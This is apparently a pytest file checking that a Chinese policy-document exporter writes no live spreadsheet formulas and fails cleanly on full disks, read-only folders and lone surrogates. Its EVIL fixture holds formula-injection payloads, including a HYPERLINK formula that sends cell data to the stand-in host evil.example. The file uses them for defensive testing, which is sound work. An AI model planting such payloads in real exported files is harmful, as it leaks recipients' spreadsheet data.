"""Issue 21, the writers' part: no live formula from document text (xlsx, CSV), lone
surrogates in records, full disks and read-only folders for `report` and `export` (one line,
no traceback, nothing half-written), the CSV set moved into place whole, and nothing written
when every input failed.

Full disks and read-only folders are real: a small tmpfs mounted for the test (needs root
and `mount`; skipped otherwise) and `/dev/full`.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from conftest import NOTICE, raw_path
from zzgov.api import parse_text
from zzgov.export import SCHEMA, to_csv, to_xlsx
from zzgov.models import Document

SNIPPET = "1. 建设学校。\n责任领导：王明\n牵头单位：市教育局\n责任单位：市财政局\n"
# What an attacker would put in a document for a spreadsheet to run: a live formula, a link
# that sends a cell's content away, and the other characters that start a formula.
EVIL = {
    "text": "=1+1",
    "leaders": ["@SUM(1+1)"],
    "lead_units": ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")'],
    "units": ["+市财政局", "-市教育局", "\t=1+2"],
}


def run(*args, input: bytes | None = None, cwd=None):
    return subprocess.run([sys.executable, "-m", "zzgov", *map(str, args)], input=input, capture_output=True,
                          cwd=cwd, timeout=120)


def one_line_error(r) -> str:
    err = r.stderr.decode("utf-8", "replace")
    assert r.returncode == 1, err
    assert "Traceback" not in err and "Exception ignored" not in err, err
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("zzgov: error: "), err
    return lines[0]


def evil_doc() -> Document:
    data = json.loads(parse_text(SNIPPET, kind="notice", doc_id="evil").model_dump_json())
    data["tasks"][0].update(EVIL)
    return Document.model_validate(data)


# ---------------------------------------------------------------- formula injection

def test_xlsx_stores_document_text_as_strings_never_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "ledger.xlsx"
    to_xlsx([evil_doc()], path)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) >= 4  # 总台账 and a sheet per unit
        for name in sheets:
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(path)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=3):
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t":
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert {"=1+1", "@SUM(1+1)"} <= seen
    assert any(v.startswith("=HYPERLINK") for v in seen)  # the text itself is kept, as text


def test_csv_cells_that_would_start_a_formula_are_prefixed(tmp_path):
    to_csv([evil_doc()], tmp_path / "csv")

    def rows(table):
        text = (tmp_path / "csv" / f"{table}.csv").read_text(encoding="utf-8-sig")
        return list(csv.DictReader(io.StringIO(text)))

    tasks = rows("tasks")
    assert tasks[0]["text"] == "'=1+1"
    assert rows("task_leaders")[0]["leader"] == "'@SUM(1+1)"
    written = {r["written"] for r in rows("task_units")}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")" in written
    assert {"'+市财政局", "'-市教育局"} <= written
    for table in SCHEMA:  # no text cell anywhere starts a formula
        for r in rows(table.name):
            for v in r.values():
                assert not (v[:1] in ("=", "+", "@", "\t", "\r") or (v[:1] == "-" and not _number(v))), (table.name, v)
    assert any(_number(r["start"]) for r in tasks)  # numbers stay numbers


def _number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True


def test_export_command_writes_no_formula_either(tmp_path):
    pytest.importorskip("openpyxl")
    records = tmp_path / "evil.json"
    records.write_text(evil_doc().model_dump_json(), encoding="utf-8")
    r = run("export", records, "--to", "xlsx", tmp_path / "l.xlsx")
    assert r.returncode == 0, r.stderr
    with zipfile.ZipFile(tmp_path / "l.xlsx") as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


# ---------------------------------------------------------------- lone surrogates

def test_every_writer_takes_a_record_with_lone_surrogates(tmp_path):
    """Valid JSON ("\\ud800") that `validate` accepts: each writer stores U+FFFD instead."""
    data = json.loads(parse_text(SNIPPET, kind="notice", doc_id="s").model_dump_json())
    data["meta"]["title"] = "标题\ud800"
    data["tasks"][0].update(text="建设\udc80学校", lead_units=["市\ud800局"], leaders=["王\udfff"])
    records = tmp_path / "s.json"
    records.write_text(json.dumps(data), encoding="ascii")
    targets = {"csv": tmp_path / "csv", "sqlite": tmp_path / "s.db", "xlsx": tmp_path / "s.xlsx"}
    for fmt, out in targets.items():
        if fmt == "xlsx":
            pytest.importorskip("openpyxl")
        r = run("export", records, "--to", fmt, out)
        assert r.returncode == 0 and b"Traceback" not in r.stderr, (fmt, r.stderr)
    assert "建设\ufffd学校" in (targets["csv"] / "tasks.csv").read_text(encoding="utf-8-sig")
    db = sqlite3.connect(targets["sqlite"])
    assert db.execute("select text from tasks").fetchone()[0] == "建设\ufffd学校"
    import openpyxl

    ws = openpyxl.load_workbook(targets["xlsx"])["总台账"]
    assert ws.cell(row=3, column=2).value == "建设\ufffd学校"


# ---------------------------------------------------------------- nothing written on failure

def test_when_every_input_fails_nothing_is_written(tmp_path):
    pytest.importorskip("openpyxl")
    db, ledger, tables = tmp_path / "a.db", tmp_path / "a.xlsx", tmp_path / "csv"
    assert run("export", raw_path(NOTICE), "--to", "sqlite", db).returncode == 0
    assert run("export", raw_path(NOTICE), "--to", "xlsx", ledger).returncode == 0
    before = {p: p.read_bytes() for p in (db, ledger)}
    for fmt, out in (("sqlite", db), ("xlsx", ledger), ("csv", tables)):
        r = run("export", tmp_path / "mistyped.txt", "--to", fmt, out)
        assert r.returncode == 1 and b"nothing written" in r.stderr and b"Traceback" not in r.stderr
    assert {p: p.read_bytes() for p in (db, ledger)} == before
    assert not tables.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.db", "a.xlsx"]


# ---------------------------------------------------------------- full disks, read-only folders

@pytest.fixture
def mount_tmpfs(tmp_path):
    """mount_tmpfs(size, readonly) -> a fresh tmpfs of that size, unmounted after the test."""
    if os.name != "posix" or os.geteuid() != 0 or not shutil.which("mount"):
        pytest.skip("mounting a small tmpfs needs root and mount")
    mounted = []

    def make(size: str = "64k", readonly: bool = False) -> Path:
        where = tmp_path / f"disk{len(mounted)}"
        where.mkdir()
        opts = f"size={size}" + (",ro" if readonly else "")
        r = subprocess.run(["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(where)], capture_output=True)
        if r.returncode != 0:
            pytest.skip(f"cannot mount a tmpfs here: {r.stderr.decode(errors='replace').strip()}")
        mounted.append(where)
        return where

    yield make
    for where in mounted:
        subprocess.run(["umount", "-l", str(where)], capture_output=True)


def test_report_onto_a_full_disk_is_one_line_and_leaves_nothing(mount_tmpfs):
    disk = mount_tmpfs("64k")
    r = run("report", raw_path(NOTICE), "-o", disk / "r.html")
    assert "No space left on device" in one_line_error(r)
    assert list(disk.iterdir()) == []  # no half page, no temporary file


@pytest.fixture
def read_only_folder(tmp_path, request):
    """A folder this process cannot write into: a read-only tmpfs for root (who writes into
    any folder whatever its mode), a folder of mode 0500 for anyone else."""
    if os.name == "posix" and os.geteuid() != 0:
        folder = tmp_path / "ro"
        folder.mkdir()
        folder.chmod(0o500)
        yield folder, "Permission denied"
        folder.chmod(0o700)
    else:
        yield request.getfixturevalue("mount_tmpfs")("64k", readonly=True), "Read-only file system"


def test_report_into_a_read_only_folder_is_one_line(read_only_folder):
    folder, message = read_only_folder
    r = run("report", raw_path(NOTICE), "-o", folder / "r.html")
    assert message in one_line_error(r)


def test_report_to_a_full_standard_output_is_one_line():
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full")
    with open("/dev/full", "wb") as full:
        r = subprocess.run([sys.executable, "-m", "zzgov", "report", str(raw_path(NOTICE)), "-o", "-"],
                           stdout=full, stderr=subprocess.PIPE, timeout=120)
    assert "no space left on device" in one_line_error(r).lower()  # the one message of every command


@pytest.mark.parametrize("fmt", ["sqlite", "xlsx"])
def test_export_onto_a_full_disk_is_one_line_and_keeps_the_old_file(mount_tmpfs, fmt):
    if fmt == "xlsx":
        pytest.importorskip("openpyxl")
    disk = mount_tmpfs({"sqlite": "320k", "xlsx": "64k"}[fmt])  # the small file fits, the notice's not
    out = disk / f"small.{fmt}"
    small = disk.parent / "small.txt"
    small.write_text(SNIPPET, encoding="utf-8")
    assert run("export", small, "--to", fmt, out).returncode == 0
    before = out.read_bytes()
    r = run("export", raw_path(NOTICE), "--to", fmt, out)
    line = one_line_error(r)
    assert "full" in line or "No space left on device" in line
    assert out.read_bytes() == before
    assert sorted(p.name for p in disk.iterdir()) == [out.name]


def test_export_csv_onto_a_full_disk_leaves_no_partial_set(mount_tmpfs):
    disk = mount_tmpfs("64k")
    small = disk.parent / "small.txt"
    small.write_text(SNIPPET, encoding="utf-8")
    # A new folder: not created at all.
    r = run("export", raw_path(NOTICE), "--to", "csv", disk / "new")
    assert "No space left on device" in one_line_error(r)
    assert list(disk.iterdir()) == []
    # An existing set: left as it was, every table.
    assert run("export", small, "--to", "csv", disk / "set").returncode == 0
    before = {p.name: p.read_bytes() for p in (disk / "set").iterdir()}
    assert len(before) == len(SCHEMA)
    r = run("export", raw_path(NOTICE), "--to", "csv", disk / "set")
    assert "No space left on device" in one_line_error(r)
    assert {p.name: p.read_bytes() for p in (disk / "set").iterdir()} == before
    assert sorted(p.name for p in disk.iterdir()) == ["set"]


def test_export_into_a_read_only_folder_is_one_line(read_only_folder):
    folder, message = read_only_folder
    for fmt, out in (("sqlite", folder / "a.db"), ("csv", folder / "csv")):
        r = run("export", raw_path(NOTICE), "--to", fmt, out)
        assert message in one_line_error(r)
